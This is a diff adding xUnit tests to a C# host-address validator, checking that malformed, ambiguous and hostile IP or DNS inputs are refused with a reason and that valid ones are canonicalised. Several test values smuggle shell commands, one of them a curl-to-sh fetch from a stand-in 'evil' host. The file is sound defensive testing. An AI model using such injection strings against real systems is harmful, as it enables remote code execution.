@@ -28,6 +28,45 @@ public sealed class HostInputRulesTests
     public void CheckAddress_Invalid_ReturnsMessage(string address) => Assert.NotNull(HostInputRules.CheckAddress(address));
 
     [Theory]
+    [InlineData("fe80::1%$(id)", "scope id")]
+    [InlineData("fe80::1%eth0", "scope id")]
+    [InlineData("::ffff:10.1.1.5%;curl${IFS}evil|sh;#", "scope id")]
+    [InlineData("010.0.0.1", "leading zero")]
+    [InlineData("10.0.0.01", "leading zero")]
+    [InlineData("0xa.0.0.1", "non-standard form (10.0.0.1)")]
+    [InlineData("0xa.0xf4.0.0", "non-standard form")]
+    [InlineData("0x0a000001", "non-standard form (10.0.0.1)")]
+    [InlineData("example.123", "non-standard form")]
+    [InlineData("10.1", "not a valid IPv4 address")]
+    [InlineData("167772161", "not a valid IPv4 address")]
+    [InlineData("10.0.0.1;id", "not a valid IP address or DNS name")]
+    [InlineData("10.0.0.1\nid", "not a valid IP address or DNS name")]
+    [InlineData("ｎode1.example.com", "not a valid IP address or DNS name")]
+    [InlineData("[fe80::1", "not a valid IPv6 address")]
+    [InlineData("fe80::1 ", null)]
+    public void CheckAddress_AmbiguousOrHostileForms_RefusedWithTheReason(string address, string? reason)
+    {
+        var message = HostInputRules.CheckAddress(address);
+        if (reason is null)
+        {
+            Assert.Null(message);
+            return;
+        }
+
+        Assert.NotNull(message);
+        Assert.Contains(reason, message, StringComparison.Ordinal);
+        Assert.DoesNotContain('\n', message);
+    }
+
+    [Theory]
+    [InlineData(" 10.0.0.1 ", "10.0.0.1")]
+    [InlineData("[2001:DB8:0:0::10]", "2001:db8::10")]
+    [InlineData("FE80:0000::1", "fe80::1")]
+    [InlineData("CP-1.Lab.Example.COM", "cp-1.lab.example.com")]
+    public void CanonicalAddress_ValidInput_StoredForm(string input, string canonical) =>
+        Assert.Equal(canonical, HostInputRules.CanonicalAddress(input));
+
+    [Theory]
     [InlineData(0, false)]
     [InlineData(1, true)]
     [InlineData(22, true)]
